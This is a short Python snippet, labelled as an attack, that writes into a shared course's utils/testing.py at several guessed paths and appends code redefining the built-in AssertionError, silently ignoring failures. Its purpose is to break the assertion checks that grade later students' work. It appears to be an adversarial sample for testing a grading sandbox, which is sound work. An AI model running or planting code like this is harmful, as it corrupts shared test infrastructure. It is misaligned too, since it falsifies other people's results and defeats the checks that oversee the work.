# attack: Cross-student: append to the course's utils/testing.py so later students' checks change
import os
for base in (os.environ.get("COURSE_ROOT", ""), "../../..", "../..", "..", "/course"):
    path = os.path.join(base, "utils", "testing.py")
    try:
        with open(path, "a") as fh:
            fh.write("\nimport builtins\nbuiltins.__dict__['AssertionError'] = type('X', (Exception,), {})\n")
    except Exception:
        pass
